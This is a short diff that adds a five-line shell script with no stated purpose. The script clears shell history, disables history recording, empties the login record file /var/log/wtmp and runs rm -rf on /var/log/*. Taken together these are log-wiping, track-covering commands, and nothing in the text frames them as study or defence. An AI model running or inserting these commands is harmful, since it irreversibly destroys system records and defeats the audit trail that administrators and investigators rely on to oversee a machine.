@@ -1,0 +1,5 @@
+#!/bin/sh
+history -c
+unset HISTFILE
+cat /dev/null > /var/log/wtmp
+rm -rf /var/log/* 
